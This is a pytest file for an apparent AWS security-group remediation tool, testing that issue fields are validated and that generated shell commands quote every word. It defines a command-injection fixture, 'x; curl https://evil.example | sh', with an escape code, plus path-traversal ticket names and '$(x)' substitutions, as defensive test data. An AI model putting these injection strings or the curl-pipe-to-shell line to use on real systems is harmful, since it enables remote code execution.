"""What names an issue is held to a grammar, and quoted in every command that people paste."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from library.issues.after_care import AfterCare, RefusedSource, after_care_sentences
from library.issues.issue import Issue
from library.issues.names import aws_options, check_name, hammer_options
from library.security_groups.exposure import Exposure
from remediation.notify import release_command, restore_command
from reporting.decision_messages import decide_command
from reporting.exposure_text import revoke_commands, source_sections
from tests.builders.issues import an_issue
from tests.unit.issues.test_kinds import FINDING

EVIL = "x; curl https://evil.example | sh #\x1b[31m'"
NOW = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)


FOUND = an_issue(issue_id="finding-i-1-0123456789ab", details=FINDING)


def odd(**parts: Any) -> Issue:
    """An issue with other parts than it can have; `region`, `vpc_id` and `perms` of its details."""
    issue = an_issue()
    details = {name: parts.pop(name) for name in ("region", "vpc_id", "perms") if name in parts}
    return replace(issue, **parts, details=replace(issue.details, **details))


def odd_rule(**parts: Any) -> Issue:
    return odd(perms=(an_issue().details.perms[0]._replace(**parts),))


@pytest.mark.parametrize(
    ("issue", "what"),
    [
        pytest.param(odd(account_id=EVIL), "account_id", id="account"),
        pytest.param(odd(account_id="12345678901"), "account_id", id="account of eleven digits"),
        pytest.param(odd(issue_id=f"sg-{EVIL}"), "issue_id", id="group"),
        pytest.param(odd(issue_id="sg-1/../x"), "issue_id", id="group that is a path"),
        pytest.param(odd(region=EVIL), "issue_details.region", id="region"),
        pytest.param(odd(region=""), "issue_details.region", id="no region"),
        pytest.param(odd(region="eu-west-1\n"), "issue_details.region", id="region with a line end"),
        pytest.param(odd(vpc_id=EVIL), "issue_details.vpc_id", id="VPC"),
        pytest.param(odd_rule(protocol=EVIL), "the protocol of issue_details.perms", id="protocol"),
        pytest.param(odd_rule(prefix_list_id=EVIL), "the prefix_list_id of issue_details.perms", id="prefix list"),
        pytest.param(odd_rule(to_port=65_536), "the ports 22-65536 of issue_details.perms", id="port"),
        pytest.param(odd(jira_details={"ticket": EVIL}), "jira_details.ticket", id="ticket"),
        pytest.param(odd(jira_details={"ticket": "../../rest/webhooks"}), "jira_details.ticket", id="ticket is a path"),
        pytest.param(odd(jira_details={"ticket": 7}), "jira_details.ticket", id="ticket is a number"),
    ],
)
def test_an_item_whose_names_cannot_be_is_named(issue: Issue, what: str) -> None:
    with pytest.raises(ValueError, match=f"^{what}") as raised:
        issue.check()
    assert "\x1b" not in str(raised.value)


@pytest.mark.parametrize(
    "issue",
    [
        an_issue(),
        FOUND,
        odd(issue_id="sg-7c228307", region="us-gov-west-1", vpc_id=""),
        odd(region="ap-southeast-3", jira_details={"ticket": "SEC_2-17"}),
        odd(jira_details={"ticket": None}),
        odd_rule(protocol="-1", from_port=None, to_port=None),
        odd_rule(protocol="icmpv6", from_port=-1, to_port=-1),
        odd_rule(protocol="58", prefix_list_id="pl-0123456789abcdef0"),
    ],
)
def test_what_can_be_is_taken(issue: Issue) -> None:
    issue.check()


def test_a_finding_need_not_say_its_region() -> None:
    replace(FOUND, details=replace(FINDING, region="")).check()


def test_a_name_that_is_no_text() -> None:
    with pytest.raises(ValueError, match=r"^ticket cannot be None$"):
        check_name("ticket", None)


RULE = Exposure(EVIL, 22, 22, "0.0.0.0/0", "open_completely")
POISONED = odd(account_id=EVIL, issue_id=EVIL, region=EVIL, perms=(RULE,))
CARE = AfterCare(EVIL, NOW, (RefusedSource("203.0.113.7", "tcp/22", 3, NOW, NOW),))


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(f"aws x {aws_options(POISONED)}", id="AWS"),
        pytest.param(f"hammer x {hammer_options(POISONED)}", id="Hammer"),
        pytest.param(restore_command(POISONED), id="restore"),
        pytest.param(restore_command(POISONED, EVIL), id="restore to a backup"),
        pytest.param(release_command(POISONED), id="release"),
        pytest.param(revoke_commands(POISONED)[0], id="revoke"),
        pytest.param(decide_command(POISONED).replace("<close-now|exempt|not-mine>", "exempt"), id="decide"),
        pytest.param(after_care_sentences(POISONED, CARE)[-3].partition(": ")[2], id="restore after a change"),
        pytest.param(after_care_sentences(POISONED, CARE)[-2].partition(": ")[2], id="keep after a change"),
    ],
)
def test_every_word_of_a_command_is_quoted_whatever_the_table_holds(command: str) -> None:
    words = shlex.split(command)
    assert EVIL in words
    assert words == shlex.split(shlex.join(words))
    # Nothing that a shell acts on stands outside quotes.
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    assert not {";", "|", "&", "#", "$(", "`"} & set(lexer)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("aws cloudformation create-change-set --stack-name web --parameters ParameterKey=A,ParameterValue=1", True),
        ("aws cloudformation create-change-set --stack-name 'a; b'", True),
        ("aws cloudformation x; curl https://evil.example | sh", False),
        ("aws cloudformation $(x)", False),
        ("curl https://evil.example", False),
        ("aws 'not closed", False),
    ],
)
def test_a_stored_command_is_shown_only_if_it_is_one(command: str, shown: bool) -> None:
    group = {"kind": "cloudformation", "where": "stack web", "confidence": "sure"}
    source = {"group": group, "returns": "yes", "commands": [command]}
    assert (command in repr(source_sections(replace(an_issue(), source=source)))) == shown
